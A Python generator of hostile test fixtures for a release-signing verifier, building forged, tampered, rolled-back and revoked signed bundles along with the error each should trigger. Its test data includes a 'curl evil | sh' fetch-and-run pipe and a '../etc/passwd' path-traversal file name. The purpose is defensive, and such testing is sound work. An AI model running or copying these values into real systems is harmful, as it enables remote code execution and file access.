#!/usr/bin/env python3
"""Hostile signed-release fixtures, made independently of the Swift code under test.

Usage: trust_attacks.py OUT BUNDLE_1 BUNDLE_2 [SEED]
  BUNDLE_1, BUNDLE_2: two consecutive releases of one image (imagesmith build bundles).
Writes OUT/<case>/ for each case: files to place on a box (baked root, trust state, hardware),
the bundle and signature files to install, and case.json:
  {"name", "attack", "args": [...], "place": {"<path under the box root>": "<file in case dir>"},
   "fifo": "<file to make a FIFO>" (optional), "exit": N, "expect": "<text in stderr>"}
Keys come from the `cryptography` package; canonical JSON, DSSE and TUF key ids are written
here from their specifications, not by the tool under test. Deterministic for a seed.
"""
import base64
import copy
import hashlib
import io
import json
import os
import random
import sys
import tarfile
import time

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives import serialization

RELEASE_TYPE = "application/vnd.edge-imagesmith.release+json"
REVOCATIONS_TYPE = "application/vnd.edge-imagesmith.revocations+json"
AUTHORIZATION_TYPE = "application/vnd.edge-imagesmith.rollback-authorization+json"


def t(days: float) -> str:
    """A time `days` from now, whole seconds (the box's clock is the real one)."""
    return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(int(time.time() + days * 86400)))

BAKED = "etc/edge-imagesmith/trust/root.json"
STATE = "var/lib/edge-rollback/trust/"


def canonical(value) -> bytes:
    """OLPC canonical JSON for the values used here (strings, integers, lists, objects)."""
    return json.dumps(value, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


class Key:
    def __init__(self, rng: random.Random):
        self.private = Ed25519PrivateKey.from_private_bytes(bytes(rng.getrandbits(8) for _ in range(32)))
        self.public = self.private.public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
        self.object = {"keytype": "ed25519", "keyval": {"public": self.public.hex()}, "scheme": "ed25519"}
        self.keyid = sha256(canonical(self.object))

    def sign(self, data: bytes) -> bytes:
        return self.private.sign(data)


def root(version, expires, root_keys, release_keys, root_threshold=1, release_threshold=1, signers=None, tamper=None):
    keys = {k.keyid: copy.deepcopy(k.object) for k in root_keys + release_keys}
    signed = {
        "_type": "root", "spec_version": "1.0.31", "version": version, "expires": expires, "consistent_snapshot": False, "keys": keys,
        "roles": {
            "root": {"keyids": [k.keyid for k in root_keys], "threshold": root_threshold},
            "targets": {"keyids": [k.keyid for k in release_keys], "threshold": release_threshold},
            "snapshot": {"keyids": [k.keyid for k in release_keys], "threshold": 1},
            "timestamp": {"keyids": [k.keyid for k in release_keys], "threshold": 1},
        },
    }
    if tamper:
        tamper(signed)
    data = canonical(signed)
    signatures = [{"keyid": k.keyid, "sig": k.sign(data).hex()} for k in (signers if signers is not None else root_keys)]
    return json.dumps({"signed": signed, "signatures": signatures}, indent=1).encode()


def pae(payload_type: str, payload: bytes) -> bytes:
    return b"DSSEv1 %d %s %d %s" % (len(payload_type), payload_type.encode(), len(payload), payload)


def envelope(payload_type: str, payload: bytes, signers, sig_override=None) -> bytes:
    signatures = []
    for k in signers:
        sig = k.sign(pae(payload_type, payload))
        signatures.append({"keyid": k.keyid, "sig": base64.b64encode(sig).decode()})
    if sig_override:
        signatures = sig_override(signatures)
    return json.dumps({"payloadType": payload_type, "payload": base64.b64encode(payload).decode(), "signatures": signatures}).encode()


def bundle_files(path: str) -> dict:
    files = {}
    with tarfile.open(path, "r:gz") as tar:
        for member in tar.getmembers():
            if member.isfile():
                files[member.name.split("/")[-1]] = tar.extractfile(member).read()
    return files


def write_bundle(path: str, files: dict) -> None:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for name in sorted(files):
            info = tarfile.TarInfo(name)
            info.size = len(files[name])
            info.mode = 0o644
            tar.addfile(info, io.BytesIO(files[name]))
    with open(path, "wb") as f:
        f.write(buffer.getvalue())


def statement(files: dict, **changes) -> dict:
    release = json.loads(files["release.json"])
    value = {
        "_type": "edge-imagesmith/release", "image": release["image"], "version": release["version"],
        "release_counter": counter(release["version"]),
        "issued_at": t(-3), "expires": t(180), "hardware": ["linux/amd64"],
        "files": {name: sha256(data) for name, data in files.items()}, "parents": [],
    }
    value.update(changes)
    return value


def counter(version: str) -> int:
    year, month, number = (int(part) for part in version.split("."))
    return year * 100_000_000 + month * 1_000_000 + number


def main() -> None:
    out, bundle1, bundle2 = sys.argv[1:4]
    seed = int(sys.argv[4]) if len(sys.argv) > 4 else 1
    rng = random.Random(seed)
    root_key, root_key2, release_key, release_key2, stranger, new_release = (Key(rng) for _ in range(6))
    files1, files2 = bundle_files(bundle1), bundle_files(bundle2)
    name1 = os.path.basename(bundle1)
    v1 = json.loads(files1["release.json"])["version"]
    v2 = json.loads(files2["release.json"])["version"]
    root1 = root(1, t(365), [root_key], [release_key])
    s1 = statement(files1)
    good = envelope(RELEASE_TYPE, canonical(s1), [release_key])
    cases = []

    def case(name, attack, sig=good, *, bundle=None, baked=root1, state=None, hardware=None, args=None, exit=65, expect="", fifo=None, extra=None):
        directory = os.path.join(out, name)
        os.makedirs(directory)
        place = {}
        if baked is not None:
            open(os.path.join(directory, "root.json"), "wb").write(baked)
            place[BAKED] = "root.json"
        for index, (target, data) in enumerate((state or {}).items()):
            open(os.path.join(directory, f"state-{index}"), "wb").write(data)
            place[target] = f"state-{index}"
        if hardware is not None:
            open(os.path.join(directory, "hardware"), "w").write(hardware)
            place["etc/edge-imagesmith/hardware"] = "hardware"
        bundle_path = os.path.join(directory, name1)
        if bundle is None:
            with open(bundle1, "rb") as src, open(bundle_path, "wb") as dst:
                dst.write(src.read())
        else:
            write_bundle(bundle_path, bundle)
        if sig is not None and fifo != name1 + ".sig":
            open(bundle_path + ".sig", "wb").write(sig)
        for file_name, data in (extra or {}).items():
            open(os.path.join(directory, file_name), "wb").write(data)
        cases.append(name)
        json.dump({"name": name, "attack": attack, "args": args or ["install", "{case}/" + name1], "place": place, "fifo": fifo,
                   "exit": exit, "expect": expect}, open(os.path.join(directory, "case.json"), "w"))

    def resign(value, signers=(release_key,)):
        return envelope(RELEASE_TYPE, canonical(value), list(signers))

    def reload(data):
        return json.loads(data)

    # --- positive controls: what an independent signer makes, the box takes -----------------
    case("accept-signed", "a release signed by the release key", exit=0)
    two = root(1, t(365), [root_key], [release_key, release_key2], release_threshold=2)
    case("accept-threshold-two", "two distinct release keys meet a threshold of 2", resign(s1, [release_key, release_key2]), baked=two, exit=0)
    root2 = root(2, t(365), [root_key2], [new_release], signers=[root_key, root_key2])
    case("accept-rotated-key", "root 2 (signed by root 1's and its own root keys) brings a new release key",
         resign(s1, [new_release]), state={STATE + "roots/2.json": root2}, exit=0)
    case("accept-model-hardware", "a release for a board model the box names in its hardware file",
         resign(statement(files1, hardware=["model/orin-agx"])), hardware="# this box\nmodel/orin-agx\n", exit=0)

    # --- missing and malformed signatures ------------------------------------------------------
    case("unsigned", "keys configured, no signature at all", None, expect="has no signature")
    case("empty-signature", "an empty signature file", b"", expect="has no signature")
    case("no-signatures-listed", "an envelope with no signatures", envelope(RELEASE_TYPE, canonical(s1), []), expect="has no signature")
    case("unknown-key", "signed by a key the root does not know", resign(s1, [stranger]), expect="0 valid signatures from the release keys")
    case("root-key-signs-release", "signed by a root key instead of a release key", resign(s1, [root_key]), expect="is not one of the role's")
    tampered = reload(good)
    tampered["payload"] = base64.b64encode(canonical(statement(files1, expires="2099-01-01T00:00:00Z"))).decode()
    case("other-bytes", "the payload changed after signing (expiry pushed out)", json.dumps(tampered).encode(), expect="does not verify")
    case("other-payload-type", "a release statement signed as a revocation list", envelope(REVOCATIONS_TYPE, canonical(s1), [release_key]),
         expect="not a 'application/vnd.edge-imagesmith.release+json'")
    s2 = statement(files2)
    case("signature-for-another-file", "release 2's valid signature presented for release 1", resign(s2), expect=f"it signs edge-test {v2}, but the bundle is edge-test {v1}")
    case("trailing-garbage", "valid envelope followed by more JSON", good + b'{"payloadType":"x"}', expect="is not a valid signed document")
    duplicate = good.decode().replace('"payloadType"', '"payloadType": "text/plain", "payloadType"', 1).encode()
    case("duplicate-field", "a field given twice (parsers disagree on which wins)", duplicate, expect="duplicate")
    broken = reload(good)
    broken["payload"] = broken["payload"][:20] + "\n" + broken["payload"][20:]
    case("non-canonical-base64", "a line break inside the base64 payload", json.dumps(broken).encode(), expect="not standard base64")
    short = reload(good)
    short["signatures"][0]["sig"] = base64.b64encode(base64.b64decode(short["signatures"][0]["sig"])[:63]).decode()
    case("short-signature", "a 63-byte signature", json.dumps(short).encode(), expect="64-byte Ed25519 signature")
    case("endless-data", "a 2 MiB signature file", b" " * (2 << 20), expect="at most 1048576")
    case("fifo-signature", "the signature path is a FIFO (a read would block forever)", None, fifo=name1 + ".sig", exit=66, expect="not a regular file")
    case("unknown-envelope-field", "an extra top-level field", good[:-1] + b', "note": "x"}', expect="unknown field")
    repeated = envelope(RELEASE_TYPE, canonical(s1), [release_key], sig_override=lambda sigs: sigs + sigs)
    case("repeated-key-id", "threshold 2 met by one key's signature listed twice", repeated, baked=two, expect="1 valid signature from the release keys, 2 needed")
    borrowed = envelope(RELEASE_TYPE, canonical(s1), [release_key],
                        sig_override=lambda sigs: sigs + [{"keyid": release_key2.keyid, "sig": sigs[0]["sig"]}])
    case("borrowed-signature", "key 1's signature filed under key 2's id", borrowed, baked=two, expect="1 valid signature from the release keys, 2 needed")

    # --- the statement -------------------------------------------------------------------------
    case("expired-release", "a release past its expiry", resign(statement(files1, issued_at=t(-60), expires=t(-30))), expect="it expired at " + t(-30)[:10])
    case("other-hardware", "a release for arm64 boxes", resign(statement(files1, hardware=["linux/arm64"])), expect="it is for linux/arm64")
    case("model-not-on-box", "a release for a board model this box is not", resign(statement(files1, hardware=["model/orin-agx"])), expect="it is for model/orin-agx")
    case("mix-and-match-image", "a statement for another image with this bundle's files", resign(statement(files1, image="other-image")), expect="it signs other-image")
    case("mix-and-match-version", "a statement naming another version", resign(statement(files1, version=v2)), expect=f"it signs edge-test {v2}")
    evil = dict(files1)
    lock_name = next(n for n in evil if n.endswith(".lock.json"))
    evil["docker-compose.pinned.yml"] = evil["docker-compose.pinned.yml"] + b"# changed\n"
    evil["SHA256SUMS"] = "".join(f"{sha256(evil[n])}  {n}\n" for n in sorted(evil) if n != "SHA256SUMS").encode()
    case("changed-file", "a bundle file changed, SHA256SUMS recomputed to match", good, bundle=evil, expect="hashes to")
    partial = statement(files1)
    del partial["files"]["health-checks.json"]
    case("unsigned-file", "the statement leaves one bundle file out", resign(partial), expect="the bundle has health-checks.json, which the release does not sign")
    case("unknown-statement-field", "an extra field in the statement", resign(dict(s1, run="curl evil | sh")), expect="/run: unknown field")
    case("float-counter", "a counter written 1.0e11", envelope(RELEASE_TYPE, canonical(s1).replace(b'"release_counter":%d' % s1["release_counter"], b'"release_counter":2.026120e11'), [release_key]), expect="/release_counter")
    case("negative-counter", "a negative counter", resign(dict(s1, release_counter=-1)), expect="/release_counter")
    case("expires-before-issued", "expiry before issue", resign(dict(s1, issued_at=t(200))), expect="it expires before it was issued")
    case("wrong-statement-type", "a statement whose _type is a revocation list's", resign(dict(s1, _type="edge-imagesmith/revocations")), expect="/_type")
    case("path-in-file-name", "a signed file name that climbs out", resign(dict(s1, files=dict(s1["files"], **{"../etc/passwd": "0" * 64}))), expect="not a bundle file name")
    case("fractional-time", "a time with fractional seconds", resign(dict(s1, expires=t(180)[:-1] + ".5Z")), expect="/expires")

    # --- the counter ---------------------------------------------------------------------------
    highest = lambda counter, version: json.dumps({"release_counter": counter, "version": version}).encode()
    case("rollback-attack", "an older release on a box that installed a newer one", state={STATE + "highest.json": highest(s1["release_counter"] + 5, "2026.12.6")},
         expect="is lower than the highest this box has installed")
    case("reused-counter", "another version with the counter of one installed", state={STATE + "highest.json": highest(s1["release_counter"], "2026.12.7")},
         expect="was already used by 2026.12.7")
    authorization = {"_type": "edge-imagesmith/rollback-authorization", "image": s1["image"], "version": s1["version"],
                     "release_counter": s1["release_counter"], "issued_at": t(-1), "expires": t(6)}
    newer = {STATE + "highest.json": highest(s1["release_counter"] + 5, "2026.12.6")}
    auth_args = ["install", "{case}/" + name1, "--authorization", "{case}/auth.json"]
    case("accept-authorized-rollback", "an older release with a signed rollback authorization", state=newer, args=auth_args,
         extra={"auth.json": envelope(AUTHORIZATION_TYPE, canonical(authorization), [release_key])}, exit=0)
    case("authorization-for-another", "an authorization naming another release", state=newer, args=auth_args,
         extra={"auth.json": envelope(AUTHORIZATION_TYPE, canonical(dict(authorization, release_counter=1, version="2026.01.1")), [release_key])}, expect="it authorizes edge-test 2026.01.1")
    case("authorization-expired", "an expired authorization", state=newer, args=auth_args,
         extra={"auth.json": envelope(AUTHORIZATION_TYPE, canonical(dict(authorization, issued_at=t(-20), expires=t(-19))), [release_key])}, expect="it expired at " + t(-19)[:10])
    case("authorization-by-stranger", "an authorization signed by an unknown key", state=newer, args=auth_args,
         extra={"auth.json": envelope(AUTHORIZATION_TYPE, canonical(authorization), [stranger])}, expect="the rollback authorization is not signed as required")
    case("release-as-authorization", "the release's own signature passed as its authorization", state=newer, args=auth_args,
         extra={"auth.json": good}, expect="not a 'application/vnd.edge-imagesmith.rollback-authorization+json'")
    case("damaged-highest", "the box's counter file is damaged", state={STATE + "highest.json": b'{"release_counter": "lots"}'}, expect="highest.json")

    # --- the root of trust ---------------------------------------------------------------------
    case("expired-root", "the box's root has expired (a freeze)", baked=root(1, t(-2), [root_key], [release_key]), expect="expired at " + t(-2)[:10])
    case("baked-root-not-self-signed", "the image's root signed by a stranger", baked=root(1, t(365), [root_key], [release_key], signers=[stranger]),
         expect="0 valid signatures from the root keys")
    case("root-key-id-mismatch", "a root whose key id is not its key's", baked=root(1, t(365), [root_key], [release_key],
         tamper=lambda s: s["keys"][release_key.keyid]["keyval"].update(public=stranger.public.hex())), expect="the key id is not this key's")
    case("root-threshold-impossible", "a root whose threshold its keys cannot meet", baked=root(1, t(365), [root_key], [release_key], release_threshold=3),
         expect="can never be made")
    case("root-fast-forward", "a stored roots/2.json that is really version 3", resign(s1, [new_release]),
         state={STATE + "roots/2.json": root(3, t(365), [root_key2], [new_release], signers=[root_key, root_key2])}, expect="only 2 can follow")
    case("root-not-signed-by-old", "a stored root 2 signed by its own keys only", resign(s1, [new_release]),
         state={STATE + "roots/2.json": root(2, t(365), [root_key2], [new_release], signers=[root_key2])}, expect="0 valid signatures from the root keys")
    case("mix-and-match-root", "a release signed with root 2's key on a box that only has root 1", resign(s1, [new_release]), expect="0 valid signatures from the release keys")
    case("trust-state-without-root", "trust state, but the image's root is gone", baked=None, state={STATE + "highest.json": highest(1, "2026.01.1")},
         expect="carries no root of trust")

    # --- revocation ----------------------------------------------------------------------------
    def revocations(entries, signers=(release_key,), version=1):
        return envelope(REVOCATIONS_TYPE, canonical({"_type": "edge-imagesmith/revocations", "version": version, "issued_at": t(-1), "entries": entries}), list(signers))

    entry = lambda **kw: dict({"effective": t(-1), "reason": "test revocation"}, **kw)
    case("revoked-counter", "the release's counter is revoked", state={STATE + "revocations.json": revocations([entry(image=s1["image"], release_counter=s1["release_counter"], reason="CVE-2026-1234")])},
         expect="is revoked: CVE-2026-1234")
    case("revoked-digest", "the release statement's digest is revoked", state={STATE + "revocations.json": revocations([entry(sha256=sha256(canonical(s1)), reason="pulled")])},
         expect="is revoked: pulled")
    base = "ab" * 32
    case("revoked-parent", "the base image the release was built on is revoked", resign(dict(s1, parents=[{"name": "base disk", "sha256": base}])),
         state={STATE + "revocations.json": revocations([entry(sha256=base, reason="base compromised")])}, expect="which is revoked: base compromised")
    osimg = "cd" * 32
    case("revoked-os-image", "the OS image the release ships is revoked", resign(dict(s1, os_image={"version": s1["version"], "sha256": osimg})),
         state={STATE + "revocations.json": revocations([entry(sha256=osimg, reason="kernel regression")])}, expect="which is revoked: kernel regression")
    case("accept-revocation-not-yet-effective", "a revocation effective next year", state={STATE + "revocations.json": revocations([entry(image=s1["image"], release_counter=s1["release_counter"], effective=t(365))])},
         exit=0)
    case("forged-revocations", "a stored revocation list signed by a stranger", state={STATE + "revocations.json": revocations([], signers=[stranger])},
         expect="revocations.json")
    # --- the OS image --------------------------------------------------------------------------
    image_bytes = bytes(rng.getrandbits(8) for _ in range(4096))
    with_os = resign(dict(s1, os_image={"version": s1["version"], "sha256": sha256(image_bytes)}))
    case("accept-os-image", "the OS image matches its signed sha256", with_os, args=["install", "{case}/" + name1, "--os-image", "{case}/os.img"], extra={"os.img": image_bytes}, exit=0)
    case("os-image-swapped", "another OS image than the one signed", with_os, args=["install", "{case}/" + name1, "--os-image", "{case}/os.img"],
         extra={"os.img": image_bytes[:-1] + b"\x00"}, expect="it is not this release's OS image")
    case("os-version-mismatch", "--os-version other than the signed OS image's", with_os, args=["install", "{case}/" + name1, "--os-version", "2026.11.9"],
         expect="signs OS image")
    json.dump(cases, open(os.path.join(out, "cases.json"), "w"))
    print(f"{len(cases)} cases, seed {seed}")


if __name__ == "__main__":
    main()
